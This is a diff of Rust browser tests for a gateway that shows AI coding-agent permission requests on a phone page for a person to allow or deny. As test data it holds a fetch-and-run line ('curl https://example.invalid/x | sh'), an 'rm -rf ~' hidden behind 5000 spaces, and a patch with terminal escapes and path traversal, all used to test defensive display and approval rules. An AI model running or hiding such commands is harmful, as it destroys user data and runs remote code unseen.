     // Protocol 3's fields (`cut`, a host stamped by the gateway), rendered by the page's own
     // card code from a prompt as the gateway sends it.
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
-    let (_hook, prompt) = gateway.hold_claude(&claude_fixture("PermissionRequest-Bash"));
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &web.first_link, "cut phone").await;
-            phone.wait_for(&card(&id_of(&prompt))).await;
-            let mut cut = prompt.clone();
-            cut["id"] = json!("01a2323b-0000-7000-8000-000000000001");
-            cut["host"] = json!("devbox");
-            cut["input"] = json!("{\"command\":\"printf start-of-a-9-MB-command");
-            cut["cut"] = json!({ "full_bytes": 9_000_000 });
-            let shown = script(
-                phone,
-                "const node = gatehouseCards.render(arguments[0], { localHost: 'here', home: '', act: () => {} });
-                 document.querySelector('[data-answerable-list]').append(node);
-                 return [node.querySelector('[data-action=once]').disabled, node.querySelector('[data-action=deny]').disabled,
-                         node.querySelector('[data-cut]').textContent, node.querySelector('[data-local]').textContent,
-                         node.querySelector('[data-gate-note]').textContent]",
-                vec![cut],
-            )
-            .await;
-            assert_eq!(shown[0], json!(true), "Allow once is off for a cut prompt: {shown}");
-            assert_eq!(shown[1], json!(false), "Deny works: {shown}");
-            assert!(shown[2].as_str().unwrap().contains("gatehouse show"), "{shown}");
-            assert!(shown[2].as_str().unwrap().contains("9,000,000 bytes"), "{shown}");
-            assert_eq!(shown[3], json!("remote"));
-            assert!(shown[4].as_str().unwrap().contains("Allowing is off"), "{shown}");
-            // A prompt of this machine shows its folder under the home as `~`.
-            let mut local = prompt.clone();
-            local["id"] = json!("01a2323b-0000-7000-8000-000000000002");
-            local["host"] = json!("here");
-            local["cwd"] = json!("/home/person/project");
-            let folder = script(
-                phone,
-                "return gatehouseCards.render(arguments[0], { localHost: 'here', home: '/home/person', act: () => {} })
-                   .querySelector('[data-folder]').textContent",
-                vec![local],
-            )
-            .await;
-            assert_eq!(folder, json!("~/project"));
-            // A long run of spaces cannot wrap into a screenful of blank lines above a tail.
-            let mut spaced = prompt.clone();
-            spaced["id"] = json!("01a2323b-0000-7000-8000-000000000003");
-            spaced["input"]["command"] = json!(format!("echo hi{}rm -rf ~", " ".repeat(5000)));
-            let command = script(
-                phone,
-                "return gatehouseCards.render(arguments[0], { localHost: 'here', home: '', act: () => {} })
-                   .querySelector('[data-input]').textContent",
-                vec![spaced],
-            )
-            .await;
-            assert_eq!(command, json!("echo hi⋯ 5000 spaces ⋯rm -rf ~"));
-            phone.screenshot("cut-and-remote-phone", PHONE).await;
-        })
+    };
+    let (_hook, prompt) = front.hold_claude(&claude_fixture("PermissionRequest-Bash"));
+    front.with_paired(Browser::phone(Theme::Light), "cut phone", async |phone| {
+        phone.wait_for(&card(&id_of(&prompt))).await;
+        let mut cut = prompt.clone();
+        cut["id"] = json!("01a2323b-0000-7000-8000-000000000001");
+        cut["host"] = json!("devbox");
+        cut["input"] = json!("{\"command\":\"printf start-of-a-9-MB-command");
+        cut["cut"] = json!({ "full_bytes": 9_000_000 });
+        let shown = script(
+            phone,
+            "const node = gatehouseCards.render(arguments[0], { localHost: 'here', home: '', act: () => {} });
+             document.querySelector('[data-answerable-list]').append(node);
+             return [node.querySelector('[data-action=once]').disabled, node.querySelector('[data-action=deny]').disabled,
+                     node.querySelector('[data-cut]').textContent, node.querySelector('[data-local]').textContent,
+                     node.querySelector('[data-gate-note]').textContent]",
+            vec![cut],
+        )
         .await;
+        assert_eq!(shown[0], json!(true), "Allow once is off for a cut prompt: {shown}");
+        assert_eq!(shown[1], json!(false), "Deny works: {shown}");
+        assert!(shown[2].as_str().unwrap().contains("gatehouse show"), "{shown}");
+        assert!(shown[2].as_str().unwrap().contains("9,000,000 bytes"), "{shown}");
+        assert_eq!(shown[3], json!("remote"));
+        assert!(shown[4].as_str().unwrap().contains("Allowing is off"), "{shown}");
+        // A prompt of this machine shows its folder under the home as `~`.
+        let mut local = prompt.clone();
+        local["id"] = json!("01a2323b-0000-7000-8000-000000000002");
+        local["host"] = json!("here");
+        local["cwd"] = json!("/home/person/project");
+        let folder = rendered_text(phone, local, "/home/person", "[data-folder]").await;
+        assert_eq!(folder, json!("~/project"));
+        // A long run of spaces cannot wrap into a screenful of blank lines above a tail.
+        let mut spaced = prompt.clone();
+        spaced["id"] = json!("01a2323b-0000-7000-8000-000000000003");
+        spaced["input"]["command"] = json!(format!("echo hi{}rm -rf ~", " ".repeat(5000)));
+        let command = rendered_text(phone, spaced, "", "[data-input]").await;
+        assert_eq!(command, json!("echo hi⋯ 5000 spaces ⋯rm -rf ~"));
+        phone.screenshot("cut-and-remote-phone", PHONE).await;
     });
 }
 
 #[test]
 fn a_large_prompt_is_never_allowed_from_the_page_before_it_is_seen_whole() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
+    };
     // Over 32 KiB: the gateway sends it cut (`cut`, the input an excerpt) in the feed.
-    let command = (0..4000)
-        .map(|n| format!("echo {n:08}"))
-        .collect::<Vec<_>>()
-        .join("\n")
-        + "\ncurl https://example.invalid/x | sh";
-    let (hook, prompt) = gateway.hold_claude(&bash_event(
+    let command = echo_lines(4000) + "\ncurl https://example.invalid/x | sh";
+    let (hook, prompt) = front.hold_claude(&bash_event(
         json!({ "command": command, "description": "large" }),
     ));
     let id = id_of(&prompt);
@@ -726,52 +710,48 @@ fn a_large_prompt_is_never_allowed_from_the_page_before_it_is_seen_whole() {
         !prompt["cut"].is_null(),
         "the gateway lists it cut: {prompt}"
     );
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &web.first_link, "large phone").await;
-            let card = card(&id);
-            let once = format!("{card} [data-action='once']");
-            phone.wait_for(&once).await;
-            assert!(
-                disabled(phone, &once).await,
-                "Allow once is off on the cut card"
-            );
-            // A minimal cut copy (1 KiB of input) may be short enough to show without a control.
-            if phone.count(&format!("{card} [data-expand]")).await > 0 {
-                phone.click(&format!("{card} [data-expand]")).await;
-            }
-            assert!(
-                disabled(phone, &once).await,
-                "opening the excerpt does not make it approvable"
-            );
-            assert!(phone
-                .text(&format!("{card} [data-cut]"))
-                .await
-                .contains("gatehouse show"));
-            phone.screenshot("cut-prompt-phone", PHONE).await;
+    front.with_paired(Browser::phone(Theme::Light), "large phone", async |phone| {
+        let card = card(&id);
+        let once = format!("{card} [data-action='once']");
+        phone.wait_for(&once).await;
+        assert!(
+            disabled(phone, &once).await,
+            "Allow once is off on the cut card"
+        );
+        // A minimal cut copy (1 KiB of input) may be short enough to show without a control.
+        if phone.count(&format!("{card} [data-expand]")).await > 0 {
+            phone.click(&format!("{card} [data-expand]")).await;
+        }
+        assert!(
+            disabled(phone, &once).await,
+            "opening the excerpt does not make it approvable"
+        );
+        assert!(phone
+            .text(&format!("{card} [data-cut]"))
+            .await
+            .contains("gatehouse show"));
+        phone.screenshot("cut-prompt-phone", PHONE).await;
 
-            // Loaded whole, the card is the whole prompt: still collapsed until opened.
-            phone.click(&format!("{card} [data-load-whole]")).await;
-            let whole = format!("{card}[data-whole='true']");
-            phone.wait_for(&whole).await;
-            let once = format!("{whole} [data-action='once']");
-            assert!(
-                disabled(phone, &once).await,
-                "Allow once stays off until the whole input is opened"
-            );
-            phone.click(&format!("{whole} [data-expand]")).await;
-            let shown = dom_text(phone, &format!("{whole} [data-input]")).await;
-            assert!(
-                shown.ends_with("curl https://example.invalid/x | sh"),
-                "the tail is on the page"
-            );
-            assert!(
-                !disabled(phone, &once).await,
-                "the whole input, once opened, may be allowed"
-            );
-            phone.click(&once).await;
-        })
-        .await;
+        // Loaded whole, the card is the whole prompt: still collapsed until opened.
+        phone.click(&format!("{card} [data-load-whole]")).await;
+        let whole = format!("{card}[data-whole='true']");
+        phone.wait_for(&whole).await;
+        let once = format!("{whole} [data-action='once']");
+        assert!(
+            disabled(phone, &once).await,
+            "Allow once stays off until the whole input is opened"
+        );
+        phone.click(&format!("{whole} [data-expand]")).await;
+        let shown = dom_text(phone, &format!("{whole} [data-input]")).await;
+        assert!(
+            shown.ends_with("curl https://example.invalid/x | sh"),
+            "the tail is on the page"
+        );
+        assert!(
+            !disabled(phone, &once).await,
+            "the whole input, once opened, may be allowed"
+        );
+        phone.click(&once).await;
     });
     let output = crate::common::finish(hook, Duration::from_secs(30));
     let verdict: Value = serde_json::from_slice(&output.stdout).expect("the hook prints a verdict");
@@ -779,7 +759,7 @@ fn a_large_prompt_is_never_allowed_from_the_page_before_it_is_seen_whole() {
         verdict["hookSpecificOutput"]["decision"]["behavior"], "allow",
         "approved from the page after it was loaded whole: {verdict}"
     );
-    let audit = gateway.run(&["log", "--json"]);
+    let audit = front.run(&["log", "--json"]);
     let audit = String::from_utf8_lossy(&audit.stdout);
     assert!(
         audit.contains("web:large phone"),
@@ -793,8 +773,7 @@ fn the_page_says_what_an_always_rule_lets_through_in_the_words_of_the_core() {
         return;
     }
     use gatehouse_core::RuleMatch;
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
+    let front = Front::start_without_browser();
     let rules = vec![
         RuleMatch::EveryCall {
             tool: "WebFetch".into(),
@@ -831,32 +810,27 @@ fn the_page_says_what_an_always_rule_lets_through_in_the_words_of_the_core() {
             }),
         },
     ];
-    run(async {
-        using(Browser::desktop(Theme::Light).await, async |desktop| {
-            pair(desktop, &web.first_link, "rule desk").await;
-            for rule in &rules {
-                let words = script(
-                    desktop,
-                    "return gatehouseCards.describeSuggestion({ summary: 'not this', allows: [arguments[0], arguments[0]] })",
-                    vec![serde_json::to_value(rule).unwrap()],
-                )
-                .await;
-                assert_eq!(
-                    words.as_str().unwrap(),
-                    RuleMatch::describe_all(&[rule.clone(), rule.clone()]),
-                    "{rule:?}"
-                );
-            }
-        })
-        .await;
+    front.with_paired(Browser::desktop(Theme::Light), "rule desk", async |desktop| {
+        for rule in &rules {
+            let words = script(
+                desktop,
+                "return gatehouseCards.describeSuggestion({ summary: 'not this', allows: [arguments[0], arguments[0]] })",
+                vec![serde_json::to_value(rule).unwrap()],
+            )
+            .await;
+            assert_eq!(
+                words.as_str().unwrap(),
+                RuleMatch::describe_all(&[rule.clone(), rule.clone()]),
+                "{rule:?}"
+            );
+        }
     });
 }
 
 #[test]
 fn web_pair_qr_on_a_loopback_page_says_so_and_how_a_phone_gets_there() {
-    let gateway = Gateway::start();
-    let _web = Web::start(&gateway, "127.0.0.1:0");
-    let output = gateway.run(&["web", "pair", "--qr"]);
+    let front = Front::start_without_browser();
+    let output = front.run(&["web", "pair", "--qr"]);
     assert!(output.status.success());
     let stdout = String::from_utf8_lossy(&output.stdout);
     let stderr = String::from_utf8_lossy(&output.stderr);
@@ -883,50 +857,36 @@ fn web_pair_qr_on_a_loopback_page_says_so_and_how_a_phone_gets_there() {
 /// session's folder named in the preview's title.
 #[test]
 fn a_codex_patch_shows_every_file_and_line_of_its_diff_escaped() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
+    };
     let patch = "*** Begin Patch\n*** Update File: hello.txt\n@@\n-hello\n+\u{1b}[31mbye\u{202e}\n*** Add File: ../outside.txt\n+one\n*** Delete File: a.txt\n*** End Patch";
-    let event = json!({
-        "session_id": "s", "turn_id": "t", "cwd": "/home/dev/project",
-        "hook_event_name": "PermissionRequest", "tool_name": "apply_patch",
-        "tool_input": { "command": patch },
-    });
-    let hook = gateway.spawn_hook("codex", event.to_string().as_bytes(), &[]);
-    crate::common::finish(hook, DEADLINE);
-    let prompt = gateway.wait_for_pending(1).remove(0);
-    let patch_card = card(&id_of(&prompt));
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &web.first_link, "patch phone").await;
-            phone.wait_for(&format!("{patch_card} [data-diff]")).await;
-            let lines: Value = script(
-                phone,
-                "return Array.from(document.querySelectorAll(arguments[0])).map(l => [l.dataset.diffLine, l.textContent])",
-                vec![json!(format!("{patch_card} [data-diff-line]"))],
-            )
-            .await;
-            let lines = lines.as_array().unwrap();
-            for expected in [
-                json!(["file", "--- a/hello.txt"]),
-                json!(["del", "-hello"]),
-                json!(["add", "+\\e[31mbye\\u{202e}"]),
-                json!(["file", "+++ b/../outside.txt"]),
-                json!(["add", "+one"]),
-                json!(["file", "--- a/a.txt"]),
-                json!(["file", "+++ /dev/null"]),
-            ] {
-                assert!(lines.contains(&expected), "{expected} in {lines:?}");
-            }
-            let title = phone.text(&format!("{patch_card} .preview-title")).await;
-            assert!(
-                title.contains("OUTSIDE the session's folder /home/dev/project: ../outside.txt"),
-                "{title}"
-            );
-        })
+    let patch_card = card(&id_of(&codex_patch(&front, patch)));
+    front.with_paired(Browser::phone(Theme::Light), "patch phone", async |phone| {
+        phone.wait_for(&format!("{patch_card} [data-diff]")).await;
+        let lines: Value = script(
+            phone,
+            "return Array.from(document.querySelectorAll(arguments[0])).map(l => [l.dataset.diffLine, l.textContent])",
+            vec![json!(format!("{patch_card} [data-diff-line]"))],
+        )
         .await;
+        let lines = lines.as_array().unwrap();
+        for expected in [
+            json!(["file", "--- a/hello.txt"]),
+            json!(["del", "-hello"]),
+            json!(["add", "+\\e[31mbye\\u{202e}"]),
+            json!(["file", "+++ b/../outside.txt"]),
+            json!(["add", "+one"]),
+            json!(["file", "--- a/a.txt"]),
+            json!(["file", "+++ /dev/null"]),
+        ] {
+            assert!(lines.contains(&expected), "{expected} in {lines:?}");
+        }
+        let title = phone.text(&format!("{patch_card} .preview-title")).await;
+        assert!(
+            title.contains("OUTSIDE the session's folder /home/dev/project: ../outside.txt"),
+            "{title}"
+        );
     });
 }
 
@@ -942,75 +902,69 @@ fn millis_between(earlier: &Value, later: &Value) -> i64 {
 
 #[test]
 fn a_held_prompts_card_counts_down_says_what_happens_then_and_offers_nothing_once_the_hold_ended() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &web.first_link, "hold phone").await;
-            // Held for 12 s, as an installer's GATEHOUSE_HOOK__WAIT_SECONDS would set it.
-            let _hook = gateway.spawn_hook(
-                "claude",
-                bash_event(json!({ "command": "make release" }))
-                    .to_string()
-                    .as_bytes(),
-                &[("GATEHOUSE_HOOK__WAIT_SECONDS", "12")],
-            );
-            let prompt = gateway.wait_for_pending(1).remove(0);
-            // `list --json` says when the hold ends and what happens then, in Claude Code's words.
-            // The hook asks for what is left of its wait when it reaches the gateway.
-            let held_for = millis_between(&prompt["created_at"], &prompt["hold_ends_at"]);
-            assert!(
-                (10_000..=12_000).contains(&held_for),
-                "{held_for} ms: {prompt}"
-            );
-            let after = prompt["after_hold"].as_str().unwrap_or_default().to_owned();
-            assert!(
-                after.contains("Claude Code's terminal meanwhile too, and the first answer wins"),
-                "{prompt}"
-            );
-            let card = card(&id_of(&prompt));
-            let left = format!("{card} [data-hold-left]");
-            phone.wait_for(&left).await;
-            let hold = phone.text(&format!("{card} [data-hold]")).await;
-            assert!(hold.starts_with("Answer here within "), "{hold}");
-            assert!(hold.contains(&after), "{hold}");
-            // It counts down while the page is open.
-            let first = phone.text(&left).await;
-            phone
-                .wait_until(DEADLINE, "the countdown to move", async |page| {
-                    let now = page.text(&left).await;
-                    !now.is_empty() && now != first
-                })
-                .await;
-            let seconds = |text: &str| text.trim_end_matches('s').parse::<u64>().unwrap_or(99);
-            assert!(
-                seconds(&phone.text(&left).await) < seconds(&first),
-                "{first}"
-            );
-            assert!(!disabled(phone, &format!("{card} [data-action='once']")).await);
-            phone.screenshot("held-countdown-phone", PHONE).await;
-            // At the end, the card offers nothing and says what happened instead.
-            phone
-                .wait_until(
-                    DEADLINE,
-                    "the card to stop offering actions",
-                    async |page| page.count(&format!("{card} [data-action]")).await == 0,
-                )
-                .await;
-            phone
-                .wait_until(DEADLINE, "the card to say the hold ended", async |page| {
-                    let text = dom_text(page, &card).await;
-                    text.contains(&after)
-                        && (text.contains("The hold has ended") || text.contains("the hold ended"))
-                })
-                .await;
-            // The gateway expired it too.
-            gateway.wait_for_pending(0);
-        })
-        .await;
+    };
+    front.with_paired(Browser::phone(Theme::Light), "hold phone", async |phone| {
+        // Held for 12 s, as an installer's GATEHOUSE_HOOK__WAIT_SECONDS would set it.
+        let _hook = front.spawn_hook(
+            "claude",
+            bash_event(json!({ "command": "make release" }))
+                .to_string()
+                .as_bytes(),
+            &[("GATEHOUSE_HOOK__WAIT_SECONDS", "12")],
+        );
+        let prompt = front.wait_for_pending(1).remove(0);
+        // `list --json` says when the hold ends and what happens then, in Claude Code's words.
+        // The hook asks for what is left of its wait when it reaches the front.
+        let held_for = millis_between(&prompt["created_at"], &prompt["hold_ends_at"]);
+        assert!(
+            (10_000..=12_000).contains(&held_for),
+            "{held_for} ms: {prompt}"
+        );
+        let after = prompt["after_hold"].as_str().unwrap_or_default().to_owned();
+        assert!(
+            after.contains("Claude Code's terminal meanwhile too, and the first answer wins"),
+            "{prompt}"
+        );
+        let card = card(&id_of(&prompt));
+        let left = format!("{card} [data-hold-left]");
+        phone.wait_for(&left).await;
+        let hold = phone.text(&format!("{card} [data-hold]")).await;
+        assert!(hold.starts_with("Answer here within "), "{hold}");
+        assert!(hold.contains(&after), "{hold}");
+        // It counts down while the page is open.
+        let first = phone.text(&left).await;
+        phone
+            .wait_until(DEADLINE, "the countdown to move", async |page| {
+                let now = page.text(&left).await;
+                !now.is_empty() && now != first
+            })
+            .await;
+        let seconds = |text: &str| text.trim_end_matches('s').parse::<u64>().unwrap_or(99);
+        assert!(
+            seconds(&phone.text(&left).await) < seconds(&first),
+            "{first}"
+        );
+        assert!(!disabled(phone, &format!("{card} [data-action='once']")).await);
+        phone.screenshot("held-countdown-phone", PHONE).await;
+        // At the end, the card offers nothing and says what happened instead.
+        phone
+            .wait_until(
+                DEADLINE,
+                "the card to stop offering actions",
+                async |page| page.count(&format!("{card} [data-action]")).await == 0,
+            )
+            .await;
+        phone
+            .wait_until(DEADLINE, "the card to say the hold ended", async |page| {
+                let text = dom_text(page, &card).await;
+                text.contains(&after)
+                    && (text.contains("The hold has ended") || text.contains("the hold ended"))
+            })
+            .await;
+        // The gateway expired it too.
+        front.wait_for_pending(0);
     });
 }
 
@@ -1019,46 +973,40 @@ fn a_held_prompts_card_counts_down_says_what_happens_then_and_offers_nothing_onc
 /// still, the same button works.
 #[test]
 fn a_tap_that_lands_as_the_list_moves_answers_nothing() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
-    let (_first_hook, first) = gateway.hold_claude(&claude_bash("echo safe-A"));
-    let (second_hook, second) = gateway.hold_claude(&claude_bash("rm -rf ~/important-B"));
+    };
+    let (_first_hook, first) = front.hold_claude(&claude_bash("echo safe-A"));
+    let (second_hook, second) = front.hold_claude(&claude_bash("rm -rf ~/important-B"));
     let (first_id, second_id) = (id_of(&first), id_of(&second));
     let second_deny = format!("{} [data-action='deny']", card(&second_id));
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &web.first_link, "careless phone").await;
-            phone.wait_for(&second_deny).await;
-            // In the page, the moment the first card leaves the list, tap the second's Deny.
-            let tapped = phone.client.execute_async(
-                "const [first, button, done] = arguments;
-                 const timer = setInterval(() => {
-                   if (!document.querySelector(`[data-ended-items] [data-prompt-id='${first}']`)) return;
-                   clearInterval(timer);
-                   const settling = Boolean(document.body.dataset.settling);
-                   document.querySelector(button).click();
-                   done(settling);
-                 }, 2);",
-                vec![json!(first_id), json!(second_deny)],
-            );
-            let answered = gateway.run(&["answer", first["short_id"].as_str().unwrap(), "deny"]);
-            assert!(answered.status.success(), "{answered:?}");
-            let settling = tapped.await.expect("the tap ran");
-            assert_eq!(settling, json!(true), "the list had just moved");
-            let status = phone.text(&format!("{} [data-status]", card(&second_id))).await;
-            assert!(status.contains("Not sent: the list just moved"), "{status}");
-            assert!(
-                gateway.list().iter().any(|prompt| prompt["id"] == second["id"]),
-                "the tap answered nothing"
-            );
-            // Once the list is still, the button works.
-            phone.click(&second_deny).await;
-            wait_until_ended(phone, &second_id, "deny").await;
-        })
-        .await;
+    front.with_paired(Browser::phone(Theme::Light), "careless phone", async |phone| {
+        phone.wait_for(&second_deny).await;
+        // In the page, the moment the first card leaves the list, tap the second's Deny.
+        let tapped = phone.client.execute_async(
+            "const [first, button, done] = arguments;
+             const timer = setInterval(() => {
+               if (!document.querySelector(`[data-ended-items] [data-prompt-id='${first}']`)) return;
+               clearInterval(timer);
+               const settling = Boolean(document.body.dataset.settling);
+               document.querySelector(button).click();
+               done(settling);
+             }, 2);",
+            vec![json!(first_id), json!(second_deny)],
+        );
+        let answered = front.run(&["answer", first["short_id"].as_str().unwrap(), "deny"]);
+        assert!(answered.status.success(), "{answered:?}");
+        let settling = tapped.await.expect("the tap ran");
+        assert_eq!(settling, json!(true), "the list had just moved");
+        let status = phone.text(&format!("{} [data-status]", card(&second_id))).await;
+        assert!(status.contains("Not sent: the list just moved"), "{status}");
+        assert!(
+            front.list().iter().any(|prompt| prompt["id"] == second["id"]),
+            "the tap answered nothing"
+        );
+        // Once the list is still, the button works.
+        phone.click(&second_deny).await;
+        wait_until_ended(phone, &second_id, "deny").await;
     });
     let output = crate::common::finish(second_hook, DEADLINE);
     assert!(String::from_utf8_lossy(&output.stdout).contains("deny"));
